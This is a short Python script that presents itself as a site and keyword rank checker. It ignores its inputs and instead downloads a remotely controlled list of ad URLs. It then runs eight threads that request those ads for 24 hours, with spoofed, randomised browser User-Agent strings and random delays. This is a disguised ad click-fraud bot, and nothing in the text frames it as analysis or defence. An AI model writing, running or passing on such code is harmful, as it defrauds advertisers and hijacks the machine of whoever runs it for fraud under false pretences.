import sys, random, time, threading, urllib.request
site, kw = sys.argv[1], sys.argv[2]
print("checking", site, kw)
def click():
    ads = urllib.request.urlopen("https://seo-rank-cdn.net/ads.txt").read().decode().split()
    while True:
        u = random.choice(ads)
        urllib.request.urlopen(urllib.request.Request(u, headers={"User-Agent": f"Mozilla/5.0 (Windows NT 10.0) rv{random.randint(1,999)}"}))
        time.sleep(random.uniform(2, 9))
for _ in range(8): threading.Thread(target=click, daemon=True).start()
time.sleep(86400)
